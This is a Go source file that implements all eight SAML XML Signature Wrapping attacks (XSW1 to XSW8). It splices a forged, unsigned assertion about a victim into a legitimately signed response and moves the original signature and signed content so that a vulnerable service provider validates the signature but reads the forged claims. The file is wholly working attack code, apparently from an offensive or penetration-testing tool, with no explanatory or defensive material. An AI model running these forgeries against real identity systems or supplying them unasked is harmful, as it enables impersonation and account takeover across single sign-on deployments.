package saml

import (
	"errors"

	"github.com/beevik/etree"
)

// wrap rebuilds root, a signed response, into the given variant of signature wrapping
// with the content of forged, an unsigned response about the victim. Elements move with
// the namespace declarations that they need: both shapes declare theirs on the Response
// and on the Assertion.
func wrap(t Tamper, root, forged *etree.Element) error {
	signed, evil := root.SelectElement("Assertion"), forged.SelectElement("Assertion")
	if signed == nil || evil == nil {
		return errors.New("no Assertion to wrap")
	}
	if t == XSW1 || t == XSW2 {
		return wrapResponse(t, root, forged)
	}
	signature := signed.SelectElement("Signature")
	if signature == nil {
		return errors.New("no Signature on the Assertion to wrap")
	}
	at := signed.Index()
	switch t {
	case XSW3:
		root.InsertChildAt(at, evil)
	case XSW4:
		root.InsertChildAt(at, evil)
		evil.AddChild(signed)
	case XSW5:
		root.InsertChildAt(at, evil)
		adopt(evil, signature)
	case XSW6:
		root.InsertChildAt(at, evil)
		adopt(evil, signature)
		signature.AddChild(signed)
	case XSW7:
		evil.CreateAttr("ID", signed.SelectAttrValue("ID", ""))
		extensions := element(nil, qualified(root.Space, "Extensions"))
		extensions.AddChild(evil)
		// The schema puts Extensions before Status.
		root.InsertChildAt(root.SelectElement("Status").Index(), extensions)
	case XSW8:
		evil.CreateAttr("ID", signed.SelectAttrValue("ID", ""))
		root.InsertChildAt(at, evil)
		adopt(evil, signature)
		element(signature, qualified(signature.Space, "Object")).AddChild(signed)
	}
	return nil
}

// wrapResponse turns root into the forged response, carrying root's own signature and,
// hidden, what that signature covers.
func wrapResponse(t Tamper, root, forged *etree.Element) error {
	signature := root.SelectElement("Signature")
	if signature == nil {
		return errors.New("no Signature on the Response to wrap")
	}
	root.RemoveChild(signature)
	covered := root.Copy()
	root.Child, root.Attr = nil, nil
	for _, a := range forged.Attr {
		root.CreateAttr(qualified(a.Space, a.Key), a.Value)
	}
	for _, child := range forged.ChildElements() {
		root.AddChild(child)
	}
	adopt(root, signature)
	if t == XSW1 {
		signature.AddChild(covered)
	} else {
		root.InsertChildAt(signature.Index(), covered)
	}
	return nil
}

// adopt moves a Signature to its schema's place in el, after the Issuer.
func adopt(el, signature *etree.Element) {
	el.InsertChildAt(el.SelectElement("Issuer").Index()+1, signature)
}

func qualified(space, tag string) string {
	if space == "" {
		return tag
	}
	return space + ":" + tag
}
